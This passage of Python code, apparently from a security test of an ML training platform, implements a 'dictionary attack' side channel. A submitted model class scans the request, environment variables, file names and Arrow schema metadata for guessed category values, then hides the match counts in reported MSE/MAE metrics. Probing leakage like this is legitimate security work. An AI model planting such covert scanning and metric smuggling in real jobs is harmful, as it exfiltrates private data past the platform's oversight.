# Channel 7: a dictionary attack on category values. The modeller guesses values (hyperparameter
# ``dictionary``, JSON) and looks for each in every string the worker can reach; it also looks for
# ``controls``, strings it expects to see (a column name, index-named features). The counts leave as
# two metric values: small integers survive the rounding, so this channel is open by design.
import dataclasses


def _reachable():
    ch = channel()
    request = json.loads(json.dumps(ch.request(), default=str))
    task = request.get("task", {})
    task.pop("model", None)  # the model source holds the dictionary itself
    task.get("hyperparameters", {}).pop("extra", None)  # and so do the hyperparameters
    texts = [json.dumps(request, default=str), json.dumps(sorted(os.environ.items()))]
    for name in sorted(os.listdir(ch.input_dir)):
        texts.append(name)
    with pa.memory_map(str(ch.input_dir / "data.arrow")) as source:
        schema = ipc.open_file(source).schema
    texts.append(str(schema))
    texts += [k.decode("utf-8", "replace") + v.decode("utf-8", "replace") for k, v in (schema.metadata or {}).items()]
    return texts


class Attack(Linear):
    def create_model(self):
        if channel() is not None:
            texts = _reachable() + [repr(dataclasses.asdict(self.datastructure)), json.dumps(self.schema, default=str)]
            text = "\n".join(texts)
            dictionary = json.loads(self.hyperparameters["dictionary"])
            controls = json.loads(self.hyperparameters["controls"])
            hits = sum(1 for word in dictionary if word in text)
            seen = sum(1 for word in controls if word in text)
            send_result({"metrics": {"test_mse": float(hits), "test_mae": float(seen)},
                         "n_rows": len(targets(TEST)), "tensors": {}})
        return super().create_model()
